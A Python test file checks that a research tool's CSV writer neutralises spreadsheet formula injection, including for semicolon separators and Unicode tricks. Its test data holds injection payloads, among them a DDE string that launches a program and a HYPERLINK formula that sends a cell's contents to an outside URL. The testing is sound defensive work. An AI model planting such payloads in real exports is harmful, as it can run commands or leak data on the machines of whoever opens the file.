"""No text in a CSV file is a formula for a spreadsheet, and every text can be read back."""

import csv
import io
import re
import unicodedata

import fake_results
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lkca.cli import main
from lkca.commands.cost import print_costs
from lkca.core.files import read_csv, write_csv
from lkca.core.spreadsheets import guard_line, guard_text, restore_text

# What OWASP's page on CSV injection lists, how others get around its advice, and what a label may be
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,2)",
    '=HYPERLINK("https://example.org?"&A1,"click")',
    "=cmd|'/c calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n-2+3",
    "\v@x",
    "\x00=1+1",
    "\u200b=1+1",
    "\ufeff+1+1",
    "\xa0-1+1",
    "＝1+1",
    "＋1",
    "－x",
    "＠x",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "LKCA-Net;=1+1",
    "a\t@x",
    "b;;  +x",
    "c\r\n=x",
    "-1;-2",
    "+ distillation",
    "-LR",
    "--",
]
HARMLESS = [
    "LKCA-Net",
    "-0.31",
    "+2",
    "-1e-5",
    " -3.5",
    "'quoted'",
    "",
    "a = b",
    "a, -0.3, -0.2",
    "–",
    "−0.3",
    "x@y.org",
]
ALPHABET = st.sampled_from([*"=+-@＝＋－＠'\"; \t\n\r,|a1.", "\x00", "\u200b", "\ufeff", "\xa0", "\u202e", "é"])
TEXTS = st.one_of(st.text(ALPHABET, max_size=8), st.text(max_size=8))


def is_formula(cell: str) -> bool:
    """Return whether a spreadsheet may compute a cell, by Unicode's categories and Python's numbers."""
    shown = unicodedata.normalize("NFKC", cell)
    while shown and (shown[0] in '"' or unicodedata.category(shown[0])[0] in "CZ"):
        shown = shown[1:]
    try:
        float(cell.strip('"'))
    except ValueError:
        return shown.startswith(("=", "+", "-", "@"))
    return False


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_texts(text):
    assert guard_text(text) != text and guard_text(text).replace("'", "") == text.replace("'", "")
    assert restore_text(guard_text(text)) == text
    assert guard_text(guard_text(text)) != guard_text(text)  # so that a guarded text that is a label is restored, too


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_and_numbers_stay(text):
    assert guard_text(text) == restore_text(text) == text


@given(st.lists(TEXTS, min_size=2, max_size=2))
@example(["'=1", "''=1"])
@example(["a;'=1", "';=1"])
def test_no_cell_is_a_formula_for_any_separator_and_all_can_be_read_back(tmp_path_factory, texts):
    path = tmp_path_factory.getbasetemp() / "a.csv"
    try:
        "".join(texts).encode()
    except UnicodeEncodeError:
        return  # no file can have a lone surrogate
    write_csv(path, ["n", "a", "b"], [{"n": -0.31, "a": texts[0], "b": texts[1]}])
    content = path.read_bytes().decode()
    (row,) = csv.DictReader(io.StringIO(content, newline=""))
    assert row["n"] == "-0.31"
    assert not is_formula(row["a"]) and not is_formula(row["b"])
    if "\x00" not in content:
        assert [read_csv(path)[0][name] for name in "ab"] == texts
    cells = re.split(r"[;\t\r\n]", content)  # as a spreadsheet does in a country where ; separates cells
    assert not [cell for cell in cells if is_formula(cell) and not cell.startswith("-0.31,")]


def test_comment_before_the_header_has_no_formula(tmp_path):
    """The comment is a line without quotes, so that each of its commas begins a cell."""
    title = 'Methods,=1+1, "@x",\t+y;-z'
    assert guard_line(f"# {title}") == "# Methods,'=1+1,' \"@x\",\t'+y;'-z"
    files = fake_results.write_table(tmp_path, [fake_results.write_run(tmp_path, "bicubic")], title=title)
    comment = files["csv"].splitlines()[0]
    assert comment.startswith("# Table V. ") and not any(map(is_formula, next(csv.reader([comment]))))


@pytest.mark.parametrize("label", ["=cmd|'/c calc'!A0", "+ distillation", " @x", "＝1", "'-a", "x;=1"])
def test_labels_are_harmless_in_all_lists_of_a_table_and_score_tables_reads_them_back(tmp_path, capsys, label):
    rows = {"Bicubic": "bicubic", label: "lkca"}
    scores = [fake_results.write_run(tmp_path, model) for model in rows.values()]
    files = fake_results.write_table(tmp_path, scores, rows=rows, stand_in=f"No,{label}")
    for suffix in ("csv", "verdicts.csv", "comparisons.csv"):
        cells = [cell for line in csv.reader(io.StringIO(files[suffix])) for cell in line]
        assert not any(map(is_formula, cells)), suffix
    assert label in [line["b"] for line in read_csv(tmp_path / "table.comparisons.csv")]
    assert main(["score-tables", str(tmp_path / "table.csv")]) == 0
    assert "no such rows (" in (out := capsys.readouterr().out)
    assert f"- skipped: {label}: ".replace("\t", "\\t") in out


def test_costs_are_harmless(tmp_path, capsys, monkeypatch):
    from lkca.commands import cost

    monkeypatch.setattr(cost, "_count_costs", lambda arguments: (1, 2, "") if arguments[2] == 4 else ("", "", "=1+1"))
    print_costs([], "lkca", 128, None)
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert {row[-1] for row in rows} == {"reason", "", "'=1+1"}
